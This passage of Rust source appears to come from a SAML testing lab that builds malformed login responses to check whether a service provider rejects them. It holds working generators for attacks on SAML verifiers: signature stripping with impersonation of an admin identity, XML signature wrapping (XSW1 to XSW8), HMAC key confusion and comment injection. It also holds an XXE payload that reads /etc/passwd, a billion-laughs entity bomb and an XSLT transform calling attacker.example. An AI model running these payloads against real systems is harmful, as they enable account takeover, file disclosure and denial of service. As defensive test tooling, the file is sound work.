        summary: "The browser posts to a Reply URL the site answers with 308 to the ACS, played by a local redirector; it re-posts the body",
        class: Class::ReplyUrl,
        expected: Expected::Accepted,
        note: "307 and 308 keep the method and the body, so the login goes through: the control for reply-url-redirect-301",
        posts: 1,
        via_redirect: Some(Redirect::Permanent308),
        transform: Transform::Spec(|_| {}),
    },
];

/// The fault named `name`.
pub fn by_name(name: &str) -> Result<&'static Fault, UnknownName> {
    find(FAULTS, name, "fault", |f| f.name)
}

// =============================================================================================
// Spec helpers.

fn destination_of(spec: &ResponseSpec) -> String {
    spec.destination
        .clone()
        .unwrap_or_else(|| spec.reply_url.clone())
}

fn recipient_of(spec: &ResponseSpec) -> String {
    spec.recipient
        .clone()
        .unwrap_or_else(|| spec.reply_url.clone())
}

/// The signature algorithm of `key_type` with `digest`.
pub fn signature_for(key_type: KeyType, digest: DigestAlgorithm) -> SignatureAlgorithm {
    use SignatureAlgorithm as S;
    match (key_type, digest) {
        (KeyType::Rsa, DigestAlgorithm::Sha1) => S::RsaSha1,
        (KeyType::Rsa, DigestAlgorithm::Sha256) => S::RsaSha256,
        (KeyType::Rsa, DigestAlgorithm::Sha384) => S::RsaSha384,
        (KeyType::Rsa, DigestAlgorithm::Sha512) => S::RsaSha512,
        (KeyType::Ec, DigestAlgorithm::Sha1) => S::EcdsaSha1,
        (KeyType::Ec, DigestAlgorithm::Sha256) => S::EcdsaSha256,
        (KeyType::Ec, DigestAlgorithm::Sha384) => S::EcdsaSha384,
        (KeyType::Ec, DigestAlgorithm::Sha512) => S::EcdsaSha512,
    }
}

/// The values that identify the user: the NameID and every attribute value that looks like an
/// email. What an attacker swaps for the victim's.
fn identities(spec: &ResponseSpec) -> Vec<String> {
    let mut values: Vec<String> = spec.name_id.iter().map(|n| n.value.clone()).collect();
    for attribute in &spec.attributes {
        values.extend(attribute.values.iter().filter(|v| v.contains('@')).cloned());
    }
    values.dedup();
    values
}

/// Who an attacker becomes: an administrator of the user's own domain (so that on a team of that
/// domain the impersonation is plausible), never the user itself.
fn evil_identity(spec: &ResponseSpec) -> String {
    let own = identities(spec);
    let domain = own
        .iter()
        .find_map(|v| v.split_once('@').map(|(_, d)| d.to_owned()))
        .unwrap_or_else(|| "example.com".to_owned());
    ["admin", "root"]
        .iter()
        .map(|user| format!("{user}@{domain}"))
        .find(|candidate| !own.contains(candidate))
        .unwrap_or_else(|| format!("admin-{}@{domain}", own.len()))
}

/// The spec's NameID and email values replaced by [`evil_identity`].
fn impersonate_in_spec(spec: &mut ResponseSpec) {
    let own = identities(spec);
    let evil = evil_identity(spec);
    if let Some(name_id) = &mut spec.name_id {
        name_id.value = evil.clone();
    }
    for value in spec.attributes.iter_mut().flat_map(|a| a.values.iter_mut()) {
        if own.contains(value) {
            *value = evil.clone();
        }
    }
}

// ---------------------------------------------------------------------------------------------
// URL near-misses, by string surgery: a URL parser would normalise exactly the differences these
// faults are about (case, trailing slash).

/// Byte range of the URL's path: after `scheme://authority`, before `?` or `#`.
fn path_range(url: &str) -> Range<usize> {
    let authority = url.find("://").map_or(0, |i| i + 3);
    let start = url[authority..]
        .find(['/', '?', '#'])
        .map_or(url.len(), |i| authority + i);
    let end = url[start..]
        .find(['?', '#'])
        .map_or(url.len(), |i| start + i);
    start..end
}

fn toggle_trailing_slash(url: &str) -> String {
    let path = path_range(url);
    let mut out = url.to_owned();
    if url[path.clone()].ends_with('/') {
        out.remove(path.end - 1);
    } else {
        out.insert(path.end, '/');
    }
    out
}

fn toggle_www(url: &str) -> String {
    let host = url.find("://").map_or(0, |i| i + 3);
    let mut out = url.to_owned();
    if url[host..].starts_with("www.") {
        out.replace_range(host..host + 4, "");
    } else {
        out.insert_str(host, "www.");
    }
    out
}

fn toggle_scheme(url: &str) -> String {
    if let Some(rest) = url.strip_prefix("https://") {
        format!("http://{rest}")
    } else if let Some(rest) = url.strip_prefix("http://") {
        format!("https://{rest}")
    } else {
        format!("http://{url}")
    }
}

/// Capitalises the first lowercase letter of the last path segment that has one (a path that a
/// case-sensitive router does not match); for a path without letters, of the host.
fn change_case(url: &str) -> String {
    let path = path_range(url);
    let lowercase = |c: char| c.is_ascii_lowercase();
    let mut target = None;
    let mut segment_end = path.end;
    for (slash, _) in url[path.clone()].rmatch_indices('/') {
        let start = path.start + slash + 1;
        if let Some(i) = url[start..segment_end].find(lowercase) {
            target = Some(start + i);
            break;
        }
        segment_end = path.start + slash;
    }
    let host = url.find("://").map_or(0, |i| i + 3);
    let target = target.or_else(|| url[host..path.start].find(lowercase).map(|i| host + i));
    let mut out = url.to_owned();
    if let Some(at) = target {
        out[at..at + 1].make_ascii_uppercase();
    }
    out
}

/// The site's home page for an ACS path (the entity ID or homepage typed into the Reply URL
/// field), or an ACS path for a URL that already is the home page.
fn other_path(url: &str) -> String {
    let path = path_range(url);
    let replacement = if matches!(&url[path.clone()], "" | "/") {
        "/saml/acs"
    } else {
        "/"
    };
    let mut out = url.to_owned();
    out.replace_range(path, replacement);
    out
}

/// Doubles the slash after the first path segment (`/api/saml/consume` → `/api//saml/consume`),
/// or the leading slash of a one-segment path.
fn double_slash(url: &str) -> String {
    let path = path_range(url);
    let at = url[path.clone()]
        .char_indices()
        .skip(1)
        .find(|(_, c)| *c == '/')
        .map_or(path.start, |(i, _)| path.start + i);
    let mut out = url.to_owned();
    out.insert(at, '/');
    out
}

/// The same host with the path `/saml/consume` (a common toolkit default and a typical stale
/// Reply URL), or `/saml/acs` for an ACS that already has that path.
fn stale_path(url: &str) -> String {
    let path = path_range(url);
    let replacement = if &url[path.clone()] == "/saml/consume" {
        "/saml/acs"
    } else {
        "/saml/consume"
    };
    let mut out = url.to_owned();
    out.replace_range(path, replacement);
    out
}

// =============================================================================================
// XML surgery.

/// Byte-range edits of a text, applied in one pass, so that every byte no edit covers stays as
/// it was signed.
#[derive(Default)]
struct Splice(Vec<(Range<usize>, String)>);

impl Splice {
    fn replace(&mut self, range: Range<usize>, with: impl Into<String>) -> &mut Self {
        self.0.push((range, with.into()));
        self
    }

    fn insert(&mut self, at: usize, with: impl Into<String>) -> &mut Self {
        self.replace(at..at, with)
    }

    fn remove(&mut self, range: Range<usize>) -> &mut Self {
        self.replace(range, "")
    }

    /// `text[within]` with the edits applied. Edits lie inside `within` and do not overlap;
    /// insertions at one point keep the order they were added in.
    fn apply(mut self, text: &str, within: Range<usize>) -> String {
        self.0.sort_by_key(|(range, _)| range.start);
        let mut out = String::with_capacity(within.len() + 1024);
        let mut at = within.start;
        for (range, with) in self.0 {
            debug_assert!(
                range.start >= at && range.end <= within.end,
                "edits overlap"
            );
            out.push_str(&text[at..range.start]);
            out.push_str(&with);
            at = range.end;
        }
        out.push_str(&text[at..within.end]);
        out
    }

    fn apply_all(self, text: &str) -> String {
        self.apply(text, 0..text.len())
    }
}

fn missing(parent: &'static str, name: &'static str) -> BuildError {
    BuildError::Xml(xmldsig::Error::MissingElement { parent, name })
}

fn parse(xml: &str) -> Result<Document<'_>, BuildError> {
    Ok(xmldsig::parse_str(xml, &xmldsig::Limits::default())?)
}

fn child<'a, 'i>(node: Node<'a, 'i>, namespace: &str, local: &str) -> Option<Node<'a, 'i>> {
    node.children().find(|n| n.has_tag_name((namespace, local)))
}

fn required<'a, 'i>(
    node: Node<'a, 'i>,
    namespace: &str,
    parent: &'static str,
    local: &'static str,
) -> Result<Node<'a, 'i>, BuildError> {
    child(node, namespace, local).ok_or_else(|| missing(parent, local))
}

/// The first element under `node`, in document order, with this name.
fn descendant<'a, 'i>(node: Node<'a, 'i>, namespace: &str, local: &str) -> Option<Node<'a, 'i>> {
    node.descendants()
        .find(|n| n.has_tag_name((namespace, local)))
}

/// Byte range of the value of `element`'s unqualified attribute `name`.
fn attribute_value(element: Node, name: &'static str) -> Result<Range<usize>, BuildError> {
    element
        .attributes()
        .find(|a| a.namespace().is_none() && a.name() == name)
        .map(|a| a.range_value())
        .ok_or_else(|| missing("element", name))
}

/// Byte range of `element`'s text content (its single text child).
fn text_range(element: Node) -> Result<Range<usize>, BuildError> {
    element
        .first_child()
        .filter(|n| n.is_text())
        .map(|n| n.range())
        .ok_or_else(|| missing("element", "text"))
}

/// Where a new last child of `element` goes: after its current last child.
fn content_end(element: Node) -> Result<usize, BuildError> {
    element
        .last_child()
        .map(|n| n.range().end)
        .ok_or_else(|| missing("element", "content"))
}

/// The prefix `element` is written with in `text` ("" for none).
fn prefix_of<'t>(text: &'t str, element: Node) -> &'t str {
    let start = element.range().start + 1;
    let qname = text[start..]
        .split(|c: char| c.is_ascii_whitespace() || c == '>' || c == '/')
        .next()
        .unwrap_or("");
    qname.split_once(':').map_or("", |(prefix, _)| prefix)
}

fn qualified(prefix: &str, local: &str) -> String {
    if prefix.is_empty() {
        local.to_owned()
    } else {
        format!("{prefix}:{local}")
    }
}

/// Whether `node` lies inside a ds:Signature below `top` (roxmltree's `ancestors` starts with
/// the node itself, hence the skip).
fn inside_signature(node: Node, top: Node) -> bool {
    node.ancestors()
        .skip(1)
        .take_while(|a| *a != top)
        .any(|a| a.has_tag_name((DS, "Signature")))
}

/// SAMLRaider's match-and-replace on an evil element: every text node under `element` (outside
/// signatures) whose value is one of the user's identities now reads the evil identity.
fn impersonate(splice: &mut Splice, spec: &ResponseSpec, element: Node) {
    let own = identities(spec);
    let evil = escape(&evil_identity(spec));
    for text in element.descendants().filter(|n| n.is_text()) {
        if text
            .text()
            .is_some_and(|t| own.iter().any(|o| o.as_str() == t))
            && !inside_signature(text, element)
        {
            splice.replace(text.range(), evil.clone());
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Signing and encrypting XML a fault has assembled itself, in build.rs's order: Assertion
// signature, encryption, Response signature.

type Signer = fn(&ResponseSpec, &str, &str) -> Result<String, BuildError>;

fn sign_options(spec: &ResponseSpec) -> SignOptions {
    SignOptions {
        signature: spec.signing.signature,
        digest: spec.signing.digest,
        include_certificate: spec.signing.include_certificate,
    }
}

/// Signs the element `id` as the spec says.
fn sign_plain(spec: &ResponseSpec, xml: &str, id: &str) -> Result<String, BuildError> {
    let key = keys::signing_key(spec.signing.key, spec.signing.key_type)?;
    Ok(xmldsig::sign(xml, id, &key, &sign_options(spec))?)
}

/// Encrypts the element `id` as build.rs does.
fn encrypt(encryption: &Encryption, xml: &str, id: &str) -> Result<String, BuildError> {
    let recipient = match encryption.to {
        EncryptTo::Sp => keys::sp_certificate()?,
        EncryptTo::WrongKey => keys::certificate(KeyRole::Current, KeyType::Rsa)?,
    };
    let options = EncryptOptions {
        cipher: encryption.cipher,
        key_transport: encryption.transport,
    };
    Ok(xmldsig::encrypt_element(
        xml,
        id,
        &recipient,
        &options,
        Some(xmldsig::SAML_ENCRYPTED_ASSERTION),
    )?)
}

/// Signs (if the placement says so) and encrypts (if the spec does) each assertion of `ids`.
fn seal_assertions(
    spec: &ResponseSpec,
    mut xml: String,
    ids: &[&str],
    sign: Signer,
) -> Result<String, BuildError> {
    if spec.signing.placement.signs_assertion() {
        for id in ids {
            xml = sign(spec, &xml, id)?;
        }
    }
    if let Some(encryption) = &spec.encryption {
        for id in ids {
            xml = encrypt(encryption, &xml, id)?;
        }
    }
    Ok(xml)
}

/// Signs the Response if the placement says so.
fn seal_response(spec: &ResponseSpec, xml: String, sign: Signer) -> Result<String, BuildError> {
    if spec.signing.placement.signs_response() {
        sign(spec, &xml, &spec.response_id)
    } else {
        Ok(xml)
    }
}

// =============================================================================================
// Faults that build their own XML.

fn two_assertions(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    let mut spec = spec.clone();
    spec.include_assertion = true;
    let mut second = spec.clone();
    second.assertion_id = format!("{}-2", spec.assertion_id);
    let mut xml = render(&spec, now);
    let after_first = {
        let doc = parse(&xml)?;
        required(doc.root_element(), SAML, "Response", "Assertion")?
            .range()
            .end
    };
    xml.insert_str(
        after_first,
        &render_assertion(&second, now + spec.times.clock_offset),
    );
    let xml = seal_assertions(
        &spec,
        xml,
        &[&spec.assertion_id, &second.assertion_id],
        sign_plain,
    )?;
    Ok(Built {
        xml: seal_response(&spec, xml, sign_plain)?,
    })
}

/// The spec in the clear: rewrites that act on the assertion must see it.
fn in_the_clear(spec: &ResponseSpec) -> ResponseSpec {
    let mut spec = spec.clone();
    spec.encryption = None;
    spec.include_assertion = true;
    spec
}

fn signature_stripped(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    let spec = in_the_clear(spec);
    let xml = build(&spec, now)?.xml;
    let doc = parse(&xml)?;
    let root = doc.root_element();
    let mut splice = Splice::default();
    let mut stripped = 0;
    for signature in root
        .descendants()
        .filter(|n| n.has_tag_name((DS, "Signature")) && !inside_signature(*n, root))
    {
        splice.remove(signature.range());
        stripped += 1;
    }
    if stripped == 0 {
        return Err(missing("Response", "Signature"));
    }
    impersonate(&mut splice, &spec, root);
    Ok(Built {
        xml: splice.apply_all(&xml),
    })
}

/// Signs like [`sign_plain`], then turns the signature into hmac-sha1 keyed with the signer's
/// certificate (DER): what a verifier that takes the algorithm from the document and the "key"
/// from its configuration computes, if it lets HMAC in.
fn sign_hmac(spec: &ResponseSpec, xml: &str, id: &str) -> Result<String, BuildError> {
    let signed = sign_plain(spec, xml, id)?;
    let named = {
        let doc = parse(&signed)?;
        let signature = required(
            xmldsig::element_by_id(&doc, id)?,
            DS,
            "element",
            "Signature",
        )?;
        let signed_info = required(signature, DS, "Signature", "SignedInfo")?;
        let method = required(signed_info, DS, "SignedInfo", "SignatureMethod")?;
        let mut splice = Splice::default();
        splice.replace(attribute_value(method, "Algorithm")?, HMAC_SHA1);
        splice.apply_all(&signed)
    };
    let doc = parse(&named)?;
    let signature = required(
        xmldsig::element_by_id(&doc, id)?,
        DS,
        "element",
        "Signature",
    )?;
    let signed_info = required(signature, DS, "Signature", "SignedInfo")?;
    let mut canonical = Vec::new();
    xmldsig::canonicalize(signed_info, &[], None, &mut canonical);
    let certificate = keys::certificate(spec.signing.key, spec.signing.key_type)?;
    let mac = hmac_sha1(&certificate, &canonical).map_err(xmldsig::Error::from)?;
    let value = required(signature, DS, "Signature", "SignatureValue")?;
    let mut splice = Splice::default();
    splice.replace(
        text_range(value)?,
        base64::engine::general_purpose::STANDARD.encode(mac),
    );
    Ok(splice.apply_all(&named))
}

fn hmac_sha1(
    certificate: &xmldsig::Certificate,
    data: &[u8],
) -> Result<Vec<u8>, openssl::error::ErrorStack> {
    let key = openssl::pkey::PKey::hmac(&certificate.x509().to_der()?)?;
    let mut signer = openssl::sign::Signer::new(openssl::hash::MessageDigest::sha1(), &key)?;
    signer.update(data)?;
    signer.sign_to_vec()
}

fn hmac(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    let mut spec = spec.clone();
    spec.include_assertion = true;
    let xml = render(&spec, now);
    let xml = seal_assertions(&spec, xml, &[&spec.assertion_id], sign_hmac)?;
    Ok(Built {
        xml: seal_response(&spec, xml, sign_hmac)?,
    })
}

/// Appends `transform(prefix)` to every Reference's Transforms of the signed response.
fn extra_transform(
    spec: &ResponseSpec,
    now: OffsetDateTime,
    transform: fn(&str) -> String,
) -> Result<Built, BuildError> {
    let xml = build(&in_the_clear(spec), now)?.xml;
    let doc = parse(&xml)?;
    let mut splice = Splice::default();
    let mut found = 0;
    for transforms in doc
        .descendants()
        .filter(|n| n.has_tag_name((DS, "Transforms")))
    {
        splice.insert(
            content_end(transforms)?,
            transform(prefix_of(&xml, transforms)),
        );
        found += 1;
    }
    if found == 0 {
        return Err(missing("Reference", "Transforms"));
    }
    Ok(Built {
        xml: splice.apply_all(&xml),
    })
}

fn xpath_transform(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    extra_transform(spec, now, |p| {
        let (transform, xpath, signature) = (
            qualified(p, "Transform"),
            qualified(p, "XPath"),
            qualified(p, "Signature"),
        );
        format!(
            r#"<{transform} Algorithm="{XPATH_TRANSFORM}"><{xpath}>not(ancestor-or-self::{signature})</{xpath}></{transform}>"#
        )
    })
}

fn xslt_transform(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    extra_transform(spec, now, |p| {
        let transform = qualified(p, "Transform");
        format!(
            concat!(
                r#"<{transform} Algorithm="{xslt}">"#,
                r#"<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">"#,
                r#"<xsl:template match="/"><xsl:copy-of select="document('http://attacker.example/')"/></xsl:template>"#,
                r#"</xsl:stylesheet></{transform}>"#
            ),
            transform = transform,
            xslt = XSLT_TRANSFORM
        )
    })
}

// ---------------------------------------------------------------------------------------------
// Wrapping.

/// The spec built with only the signature a wrapping attack works on, in the clear.
fn for_wrapping(
    spec: &ResponseSpec,
    placement: Placement,
    now: OffsetDateTime,
) -> Result<(ResponseSpec, String), BuildError> {
    let mut spec = in_the_clear(spec);
    spec.signing.placement = placement;
    let xml = build(&spec, now)?.xml;
    Ok((spec, xml))
}

/// XSW1 (`inside`) and XSW2: the Response turns evil; a copy of the original without its
/// signature goes into the signature (XSW1) or right before it (XSW2).
fn response_wrap(
    spec: &ResponseSpec,
    now: OffsetDateTime,
    inside: bool,
) -> Result<Built, BuildError> {
    let (spec, xml) = for_wrapping(spec, Placement::Response, now)?;
    let doc = parse(&xml)?;
    let response = doc.root_element();
    let signature = required(response, DS, "Response", "Signature")?;
    let mut copy = Splice::default();
    copy.remove(signature.range());
    let original = copy.apply(&xml, response.range());

    let mut evil = Splice::default();
    evil.replace(attribute_value(response, "ID")?, EVIL_RESPONSE_ID);
    impersonate(&mut evil, &spec, response);
    let at = if inside {
        content_end(signature)?
    } else {
        signature.range().start
    };
    evil.insert(at, original);
    Ok(Built {
        xml: evil.apply_all(&xml),
    })
}

fn xsw1(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    response_wrap(spec, now, true)
}

fn xsw2(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    response_wrap(spec, now, false)
}

/// A response whose Assertion alone is signed, parsed, for the assertion-wrapping attacks.
struct Wrapping<'a, 'i> {
    text: &'i str,
    spec: &'a ResponseSpec,
    response: Node<'a, 'i>,
    assertion: Node<'a, 'i>,
    signature: Node<'a, 'i>,
}

impl<'a, 'i> Wrapping<'a, 'i> {
    fn new(
        text: &'i str,
        spec: &'a ResponseSpec,
        doc: &'a Document<'i>,
    ) -> Result<Self, BuildError> {
        let response = doc.root_element();
        let assertion = required(response, SAML, "Response", "Assertion")?;
        let signature = required(assertion, DS, "Assertion", "Signature")?;
        Ok(Wrapping {
            text,
            spec,
            response,
            assertion,
            signature,
        })
    }

    /// The Assertion as signed.
    fn original(&self) -> &'i str {
        &self.text[self.assertion.range()]
    }

    /// The Assertion as signed, without its signature: what the digest was computed over.
    fn unsigned_original(&self) -> String {
        let mut splice = Splice::default();
        splice.remove(self.signature.range());
        splice.apply(self.text, self.assertion.range())
    }

    /// Edits that turn the Assertion evil: the identities swapped, the ID changed (`Some`),
    /// the signature dropped (`!keep_signature`). Callers add insertions, then [`Self::apply`].
    fn evil(&self, id: Option<&str>, keep_signature: bool) -> Result<Splice, BuildError> {
        let mut splice = Splice::default();
        if let Some(id) = id {
            splice.replace(attribute_value(self.assertion, "ID")?, id);
        }
        if !keep_signature {
            splice.remove(self.signature.range());
        }
        impersonate(&mut splice, self.spec, self.assertion);
        Ok(splice)
    }

    fn apply(&self, evil: Splice) -> String {
        evil.apply(self.text, self.assertion.range())
    }

    /// ` xmlns=""` when a default namespace is in scope, so that an element SAMLRaider creates
    /// without a namespace keeps none.
    fn no_namespace(&self) -> &'static str {
        if self.response.lookup_namespace_uri(None).is_some() {
            r#" xmlns="""#
        } else {
            ""
        }
    }
}

/// Builds `spec` with only the Assertion signed and applies `attack` to it.
fn assertion_wrap(
    spec: &ResponseSpec,
    now: OffsetDateTime,
    attack: fn(&Wrapping) -> Result<Splice, BuildError>,
) -> Result<Built, BuildError> {
    let (spec, xml) = for_wrapping(spec, Placement::Assertion, now)?;
    let doc = parse(&xml)?;
    let wrapping = Wrapping::new(&xml, &spec, &doc)?;
    Ok(Built {
        xml: attack(&wrapping)?.apply_all(&xml),
    })
}

fn xsw3(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    assertion_wrap(spec, now, |w| {
        let evil = w.apply(w.evil(Some(EVIL_ASSERTION_ID), false)?);
        let mut doc = Splice::default();
        doc.insert(w.assertion.range().start, evil);
        Ok(doc)
    })
}

fn xsw4(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    assertion_wrap(spec, now, |w| {
        let mut evil = w.evil(Some(EVIL_ASSERTION_ID), false)?;
        evil.insert(content_end(w.assertion)?, w.original());
        let mut doc = Splice::default();
        doc.replace(w.assertion.range(), w.apply(evil));
        Ok(doc)
    })
}

fn xsw5(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    assertion_wrap(spec, now, |w| {
        let evil = w.apply(w.evil(Some(EVIL_ASSERTION_ID), true)?);
        let mut doc = Splice::default();
        doc.replace(w.assertion.range(), evil)
            .insert(content_end(w.response)?, w.unsigned_original());
        Ok(doc)
    })
}

fn xsw6(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    assertion_wrap(spec, now, |w| {
        let mut evil = w.evil(Some(EVIL_ASSERTION_ID), true)?;
        evil.insert(content_end(w.signature)?, w.unsigned_original());
        let mut doc = Splice::default();
        doc.replace(w.assertion.range(), w.apply(evil));
        Ok(doc)
    })
}

fn xsw7(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    assertion_wrap(spec, now, |w| {
        let evil = w.apply(w.evil(None, false)?);
        let mut doc = Splice::default();
        doc.insert(
            w.assertion.range().start,
            format!("<Extensions{}>{evil}</Extensions>", w.no_namespace()),
        );
        Ok(doc)
    })
}

fn xsw8(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    assertion_wrap(spec, now, |w| {
        let mut evil = w.evil(None, true)?;
        evil.insert(
            content_end(w.signature)?,
            format!(
                "<Object{}>{}</Object>",
                w.no_namespace(),
                w.unsigned_original()
            ),
        );
        let mut doc = Splice::default();
        doc.replace(w.assertion.range(), w.apply(evil));
        Ok(doc)
    })
}

fn wrap_extensions(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    assertion_wrap(spec, now, |w| {
        // samlp:Extensions belongs after Issuer (and a Response signature), before Status.
        let status = required(w.response, SAMLP, "Response", "Status")?;
        let extensions = qualified(prefix_of(w.text, w.response), "Extensions");
        let evil = w.apply(w.evil(None, false)?);
        let mut doc = Splice::default();
        doc.insert(
            status.range().start,
            format!("<{extensions}>{}</{extensions}>", w.original()),
        )
        .replace(w.assertion.range(), evil);
        Ok(doc)
    })
}

fn wrap_ds_object(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    assertion_wrap(spec, now, |w| {
        let object = qualified(prefix_of(w.text, w.signature), "Object");
        let mut evil = w.evil(None, true)?;
        evil.insert(
            content_end(w.signature)?,
            format!("<{object}>{}</{object}>", w.unsigned_original()),
        );
        let mut doc = Splice::default();
        doc.replace(w.assertion.range(), w.apply(evil));
        Ok(doc)
    })
}

fn wrap_advice(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    assertion_wrap(spec, now, |w| {
        // saml:Advice follows Conditions in an Assertion and may hold other assertions.
        let conditions = required(w.assertion, SAML, "Assertion", "Conditions")?;
        let advice = qualified(prefix_of(w.text, w.assertion), "Advice");
        let mut evil = w.evil(Some(EVIL_ASSERTION_ID), false)?;
        evil.insert(
            conditions.range().end,
            format!("<{advice}>{}</{advice}>", w.original()),
        );
        let mut doc = Splice::default();
        doc.replace(w.assertion.range(), w.apply(evil));
        Ok(doc)
    })
}

fn wrap_evil_first(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    assertion_wrap(spec, now, |w| {
        let evil = w.apply(w.evil(None, true)?);
        let mut doc = Splice::default();
        doc.insert(w.assertion.range().start, evil);
        Ok(doc)
    })
}

// ---------------------------------------------------------------------------------------------
// Comment injection.

/// Appends [`COMMENT_SUFFIX`] to the NameID and to the attribute values equal to it; returns the
/// victim's value (the NameID before).
fn suffix_identity(spec: &mut ResponseSpec) -> Result<String, BuildError> {
    let name_id = spec
        .name_id
        .as_mut()
        .ok_or_else(|| missing("Subject", "NameID"))?;
    let victim = name_id.value.clone();
    name_id.value = format!("{victim}{COMMENT_SUFFIX}");
    for value in spec.attributes.iter_mut().flat_map(|a| a.values.iter_mut()) {
        if *value == victim {
            value.push_str(COMMENT_SUFFIX);
        }
    }
    Ok(victim)
}

/// Inserts `<!---->` after the victim's part in each text node of `elements` that holds the
/// suffixed value.
fn inject_comments<'a, 'i>(
    splice: &mut Splice,
    elements: impl Iterator<Item = Node<'a, 'i>>,
    victim: &str,
) -> usize
where
    'i: 'a,
{
    let whole = format!("{victim}{COMMENT_SUFFIX}");
    let mut injected = 0;
    for element in elements {
        if let Some(text) = element
            .first_child()
            .filter(|t| t.is_text() && t.text() == Some(whole.as_str()))
        {
            splice.insert(text.range().start + escape(victim).len(), "<!---->");
            injected += 1;
        }
    }
    injected
}

fn comment_injection(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    let mut spec = spec.clone();
    spec.include_assertion = true;
    let victim = suffix_identity(&mut spec)?;
    let unsigned = render(&spec, now);
    let xml = {
        let doc = parse(&unsigned)?;
        let mut splice = Splice::default();
        let name_ids = doc
            .descendants()
            .filter(|n| n.has_tag_name((SAML, "NameID")));
        if inject_comments(&mut splice, name_ids, &victim) == 0 {
            return Err(missing("Subject", "NameID"));
        }
        splice.apply_all(&unsigned)
    };
    // Signed after the comment is in: exc-c14n leaves comments out, so the IdP's digest covers
    // the whole value.
    let xml = seal_assertions(&spec, xml, &[&spec.assertion_id], sign_plain)?;
    Ok(Built {
        xml: seal_response(&spec, xml, sign_plain)?,
    })
}

fn comment_injection_after_signing(
    spec: &ResponseSpec,
    now: OffsetDateTime,
) -> Result<Built, BuildError> {
    let mut spec = in_the_clear(spec);
    let victim = suffix_identity(&mut spec)?;
    let xml = build(&spec, now)?.xml;
    let doc = parse(&xml)?;
    let mut splice = Splice::default();
    let name_ids = doc
        .descendants()
        .filter(|n| n.has_tag_name((SAML, "NameID")));
    if inject_comments(&mut splice, name_ids, &victim) == 0 {
        return Err(missing("Subject", "NameID"));
    }
    let values = doc
        .descendants()
        .filter(|n| n.has_tag_name((SAML, "AttributeValue")));
    inject_comments(&mut splice, values, &victim);
    Ok(Built {
        xml: splice.apply_all(&xml),
    })
}

// ---------------------------------------------------------------------------------------------
// DOCTYPE payloads and duplicate IDs.

/// The built response with `internal_subset` declared in a DOCTYPE and `reference` as the
/// NameID's content.
fn with_doctype(
    spec: &ResponseSpec,
    now: OffsetDateTime,
    internal_subset: &str,
    reference: &str,
) -> Result<Built, BuildError> {
    let xml = build(&in_the_clear(spec), now)?.xml;
    let doc = parse(&xml)?;
    let root = doc.root_element();
    let name_id = descendant(root, SAML, "NameID").ok_or_else(|| missing("Subject", "NameID"))?;
    let qname = qualified(prefix_of(&xml, root), "Response");
    let mut splice = Splice::default();
    splice
        .insert(
            root.range().start,
            format!("<!DOCTYPE {qname} [{internal_subset}]>\n"),
        )
        .replace(text_range(name_id)?, reference);
    Ok(Built {
        xml: splice.apply_all(&xml),
    })
}

fn doctype(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    with_doctype(
        spec,
        now,
        r#"<!ENTITY xxe SYSTEM "file:///etc/passwd">"#,
        "&xxe;",
    )
}

fn billion_laughs(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    let mut entities = String::from(r#"<!ENTITY lol0 "lol">"#);
    for i in 1..10 {
        let previous = format!("&lol{};", i - 1).repeat(10);
        entities.push_str(&format!(r#"<!ENTITY lol{i} "{previous}">"#));
    }
    with_doctype(spec, now, &entities, "&lol9;")
}

fn duplicate_id(spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
    // In the clear: inside an EncryptedAssertion the assertion's ID would be out of sight.
    let spec = in_the_clear(spec);
    let xml = seal_assertions(&spec, render(&spec, now), &[&spec.assertion_id], sign_plain)?;
    // Added before the Response is signed, as if the IdP itself wrote it, so that no signature
    // check fails on the way and only the unique-ID rule is left to refuse it.
    let xml = {
        let doc = parse(&xml)?;
        let response = doc.root_element();
        let status = required(response, SAMLP, "Response", "Status")?;
        let extensions = qualified(prefix_of(&xml, response), "Extensions");
        let mut splice = Splice::default();
        splice.insert(
            status.range().start,
            format!(
                r#"<{extensions}><dup:Data xmlns:dup="urn:ssolab:mock-idp:duplicate" ID="{}"/></{extensions}>"#,
                escape(&spec.assertion_id)
            ),
        );
        splice.apply_all(&xml)
    };
    Ok(Built {
        xml: seal_response(&spec, xml, sign_plain)?,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn url_near_misses() {
        let acs = "https://www.qualified.io/api/saml/consume";
        assert_eq!(
            toggle_trailing_slash(acs),
            "https://www.qualified.io/api/saml/consume/"
        );
        assert_eq!(toggle_trailing_slash(&toggle_trailing_slash(acs)), acs);
        assert_eq!(toggle_www(acs), "https://qualified.io/api/saml/consume");
        assert_eq!(toggle_www(&toggle_www(acs)), acs);
        assert_eq!(
            toggle_scheme(acs),
            "http://www.qualified.io/api/saml/consume"
        );
        assert_eq!(
            change_case(acs),
            "https://www.qualified.io/api/saml/Consume"
        );
        assert_eq!(other_path(acs), "https://www.qualified.io/");
        let loopback = "http://127.0.0.1:8080/api/saml/consume?x=1";
        assert_eq!(
            toggle_trailing_slash(loopback),
